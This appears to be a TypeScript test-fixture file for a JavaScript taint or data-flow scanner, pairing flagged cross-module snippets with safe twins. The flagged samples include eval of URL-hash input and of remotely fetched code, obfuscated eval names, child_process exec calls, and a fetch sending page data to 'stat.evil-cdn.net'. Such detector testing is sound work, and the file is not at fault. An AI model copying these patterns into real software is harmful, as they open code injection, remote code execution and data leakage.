import { type FlowSample, javascriptFlow as js } from "./flow-sample.ts";

/** JavaScript: sources and sinks in different functions, classes and files. */
export const javascriptFlowSamples: readonly FlowSample[] = [
  js(
    "an imported function",
    "eval-hidden",
    "b:1",
    ["import { run } from './b.js'; run(location.hash.slice(1));", "export function run(code) { eval(code); }"],
    ["import { run } from './b.js'; run(location.hash.slice(1));", "export function run(code) { return code.length; }"],
  ),
  js(
    "an imported answer",
    "eval-hidden",
    "a:1",
    ["import read from './b.js'; eval(read());", "export default () => location.search;"],
    ["import read from './b.js'; show(read());", "export default () => location.search;"],
  ),
  js(
    "a constant of another module",
    "call-hidden",
    "a:1",
    ["import { NAME } from './b.js'; window[NAME](code);", "export const NAME = 'ev' + 'al';"],
    ["import { NAME } from './b.js'; window[NAME](code);", "export const NAME = 'op' + 'en';"],
  ),
  js(
    "a module that passes another on",
    "process",
    "a:1",
    [
      "import { go } from './b.js'; go('id');",
      "export { exec as go } from './c.js';",
      "export { exec } from 'node:child_process';",
    ],
    ["import { go } from './b.js'; go('id');", "export { exec as go } from './c.js';", "export const exec = (x) => x;"],
  ),
  js(
    "require and module.exports",
    "eval-hidden",
    "b:1",
    ["const { run } = require('./b'); run(location.hash);", "module.exports = { run(code) { eval(code); } };"],
    ["const { run } = require('./b'); run(location.hash);", "module.exports = { run(code) { return [code]; } };"],
  ),
  js(
    "exports by name",
    "process",
    "a:1",
    ["require('./b').cp.exec('id');", "exports.cp = require('child_process');"],
    ["require('./b').cp.exec('id');", "exports.cp = require('./c');", "exports.exec = (x) => x;"],
  ),
  js(
    "a function that answers a module",
    "process",
    "a:1",
    ["const load = () => require('child_process'); load().execSync('id');"],
    ["const load = () => require('./b'); load().execSync('id');", "exports.execSync = (x) => x;"],
  ),
  js(
    "a module as an argument",
    "process",
    "a:1",
    ["const run = (m, c) => m.exec(c); run(require('child_process'), 'id');"],
    ["const run = (m, c) => m.exec(c); run(/a/, 'id');"],
  ),
  js(
    "a decoder of one's own",
    "call-hidden",
    "a:1",
    ["const d = (s) => s.split('').reverse().join(''); globalThis[d('lave')](code);"],
    ["const d = (s) => s.split('').reverse().join(''); globalThis[d('nepo')](code);"],
  ),
  js(
    "a method and a field",
    "eval-hidden",
    "a:1",
    ["class A { #c; constructor(c) { this.#c = c; } run() { eval(this.#c); } } new A(location.hash).run();"],
    ["class A { #c; constructor(c) { this.#c = c; } run() { return this.#c; } } new A(location.hash).run();"],
  ),
  js(
    "a parent's method",
    "eval-hidden",
    "b:1",
    [
      "import { B } from './b.js'; class A extends B { go() { this.run(location.hash); } }",
      "export class B { run(c) { eval(c); } }",
    ],
    [
      "import { B } from './b.js'; class A extends B { go() { this.run(location.hash); } }",
      "export class B { run(c) { return c; } }",
    ],
  ),
  js(
    "a function handed to another",
    "eval-hidden",
    "a:1",
    ["const twice = (f, x) => f(x); twice((c) => eval(c), location.hash);"],
    ["const twice = (f, x) => f(x); twice((c) => show(c), location.hash);"],
  ),
  js(
    "an object as parameter",
    "eval-hidden",
    "a:1",
    ["function go({ code, at = 1 }) { eval(code); } go({ code: location.hash, at: 2 });"],
    ["function go({ code, at = 1 }) { eval2(code, at); } const eval2 = (a, b) => [a, b]; go({ code: location.hash });"],
  ),
  js(
    "the window between two scripts",
    "eval-hidden",
    "b:1",
    ["window.acmeCode = location.hash;", "eval(window.acmeCode);"],
    ["window.acmeCode = location.hash;", "show(window.acmeCode);"],
  ),
  js(
    "a host in two hands",
    "host-undeclared",
    "b:1",
    [
      "import { tell } from './b.js'; tell('stat.evil-cdn.net', document.title);",
      "export const tell = (host, what) => fetch(`https://${host}/c`, { body: what });",
    ],
    [
      "import { tell } from './b.js'; tell('api.pay.example', document.title);",
      "export const tell = (host, what) => fetch(`https://${host}/c`, { body: what });",
    ],
  ),
  js(
    "a stream's data",
    "eval-hidden",
    "a:1",
    [
      "require('https').get(u, (res) => { let all = ''; res.on('data', (d) => { all += d; }); res.on('end', () => eval(all)); });",
    ],
    [
      "require('https').get(u, (res) => { let all = ''; res.on('data', (d) => { all += d; }); res.on('end', () => show(all)); });",
    ],
  ),
  js(
    "a property of an object",
    "call-hidden",
    "a:1",
    ["const o = {}; o.name = 'ev' + 'al'; window[o.name](code);"],
    ["const o = {}; o.name = 'op' + 'en'; window[o.name](code);"],
  ),
];
